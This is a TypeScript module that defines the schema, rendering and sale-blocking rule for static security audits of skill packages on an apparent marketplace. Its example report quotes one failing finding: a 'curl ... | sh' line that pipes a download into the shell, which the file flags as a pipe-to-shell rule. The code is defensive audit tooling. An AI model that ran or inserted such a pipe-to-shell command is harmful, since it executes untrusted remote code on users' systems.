import { defineDocument, JSON_TYPE } from '../document.js';
import { EXAMPLE_SITE, EXAMPLE_TIME } from '../examples.js';
import { arrayOf, boolean, integer, nullable, object, string } from '../schema-parts.js';

export type AuditVerdict = 'pass' | 'warn' | 'fail';

export interface AuditFinding {
  rule: string;
  severity: 'info' | 'warn' | 'fail';
  file: string;
  line: number;
  excerpt: string;
  message: string;
}

/** A version's stored audit, as the skill-audit job wrote it (post_versions.audit_*). */
export interface StoredAudit {
  verdict: AuditVerdict;
  rulesVersion: number;
  counts: { fail: number; warn: number; info: number };
  findings: AuditFinding[];
  unreadable: { file: string; reason: string }[];
  truncated: boolean;
  auditedAt: Date;
  override: { reason: string; at: string } | null;
}

export interface SkillAuditView {
  postId: string;
  version: number;
  skillDigest: string;
  audit: StoredAudit;
  baseUrl: string;
}

/** A stored report (post_versions.audit_report) read back as the document renders it. */
export function storedAudit(row: {
  audit_verdict: 'pass' | 'warn' | 'fail' | null;
  audit_rules_version: number | null;
  audit_report: Record<string, unknown> | null;
  audited_at: Date | null;
  audit_override: Record<string, unknown> | null;
}): StoredAudit | null {
  if (!row.audit_verdict || !row.audit_report || !row.audited_at || row.audit_rules_version === null) return null;
  const report = row.audit_report as unknown as Pick<StoredAudit, 'counts' | 'findings' | 'unreadable' | 'truncated'>;
  const override = row.audit_override as { reason?: string; at?: string } | null;
  return {
    verdict: row.audit_verdict,
    rulesVersion: row.audit_rules_version,
    counts: report.counts,
    findings: report.findings,
    unreadable: report.unreadable,
    truncated: report.truncated,
    auditedAt: row.audited_at,
    override: override?.reason && override.at ? { reason: override.reason, at: override.at } : null,
  };
}

/**
 * Whether a version may be sold: not when its audit failed, unless an operator overrode the
 * audit with a recorded reason. A version still being audited may be.
 */
export const auditBlocksSale = (audit: { verdict: AuditVerdict | null; override: unknown } | null) =>
  audit?.verdict === 'fail' && !audit.override;

/** The audit summary the manifest, the skills index, the Bazaar listing, search and the MCP tools carry. */
export function auditSummary(
  postId: string,
  version: number,
  audit: Pick<StoredAudit, 'verdict' | 'rulesVersion' | 'counts' | 'auditedAt' | 'override'> | null,
  baseUrl: string,
) {
  return {
    verdict: audit?.verdict ?? ('pending' as const),
    counts: audit?.counts ?? null,
    rulesVersion: audit?.rulesVersion ?? null,
    auditedAt: audit?.auditedAt.toISOString() ?? null,
    overridden: Boolean(audit?.override),
    report: `${baseUrl}/api/posts/${postId}/versions/${version}/audit.json`,
  };
}
export type AuditSummary = ReturnType<typeof auditSummary>;

export function renderSkillAudit(v: SkillAuditView) {
  return {
    postId: v.postId,
    version: v.version,
    skillDigest: v.skillDigest,
    verdict: v.audit.verdict,
    rulesVersion: v.audit.rulesVersion,
    method: 'static: every file read as text and its scripts parsed; nothing is executed',
    counts: v.audit.counts,
    // Lines are quoted where the audit found something to warn of or fail; an info finding (a
    // script, a host) names its place only, so the report does not republish the paid files.
    findings: v.audit.findings.map((f) => (f.severity === 'info' ? { ...f, excerpt: '' } : f)),
    unreadable: v.audit.unreadable,
    truncated: v.audit.truncated,
    override: v.audit.override,
    auditedAt: v.audit.auditedAt.toISOString(),
  };
}

const example = renderSkillAudit({
  postId: '5f0c7a9e-1b2c-4d3e-8f90-a1b2c3d4e5f6',
  version: 2,
  skillDigest: `sha256:${'b'.repeat(64)}`,
  baseUrl: EXAMPLE_SITE.baseUrl,
  audit: {
    verdict: 'fail',
    rulesVersion: 1,
    counts: { fail: 1, warn: 0, info: 1 },
    findings: [
      {
        rule: 'script.interpreter',
        severity: 'info',
        file: 'scripts/install.sh',
        line: 1,
        excerpt: '#!/bin/sh',
        message: 'scripts/install.sh is a shell script run by sh',
      },
      {
        rule: 'script.pipe-to-shell',
        severity: 'fail',
        file: 'scripts/install.sh',
        line: 3,
        excerpt: 'curl -fsSL https://get.example.net/x | sh',
        message: 'a download is piped into sh',
      },
    ],
    unreadable: [],
    truncated: false,
    auditedAt: new Date(EXAMPLE_TIME),
    override: null,
  },
});

const verdict = { enum: ['pass', 'warn', 'fail'] };

/** The schema of `auditSummary`, where a document carries one. */
export const auditSummarySchema = object({
  verdict: { enum: ['pass', 'warn', 'fail', 'pending'] },
  counts: nullable(object({ fail: integer, warn: integer, info: integer })),
  rulesVersion: nullable(integer),
  auditedAt: nullable(string),
  overridden: boolean,
  report: string,
});
const severity = { enum: ['info', 'warn', 'fail'] };

/** /api/posts/{postId}/versions/{version}/audit.json: a version's static audit (docs/audit.md). */
export const skillAuditDocument = defineDocument({
  id: 'SkillAudit',
  path: '/api/posts/{postId}/versions/{version}/audit.json',
  contentType: JSON_TYPE,
  cache: { maxAge: 60, staleWhileRevalidate: 600 },
  schema: object({
    postId: string,
    version: integer,
    skillDigest: { type: 'string', pattern: '^sha256:[0-9a-f]{64}$' },
    verdict,
    rulesVersion: integer,
    method: string,
    counts: object({ fail: integer, warn: integer, info: integer }),
    findings: arrayOf(
      object({ rule: string, severity, file: string, line: integer, excerpt: string, message: string }),
    ),
    unreadable: arrayOf(object({ file: string, reason: string })),
    truncated: boolean,
    override: nullable(object({ reason: string, at: string })),
    auditedAt: string,
  }),
  examples: {
    valid: [example, { ...example, verdict: 'pass', findings: [], counts: { fail: 0, warn: 0, info: 0 } }],
    invalid: [
      { ...example, verdict: 'ok' },
      { ...example, findings: [{ rule: 'x', severity: 'high', file: 'a', line: 1, excerpt: '', message: '' }] },
      { ...example, counts: undefined },
    ],
  },
  render: renderSkillAudit,
});
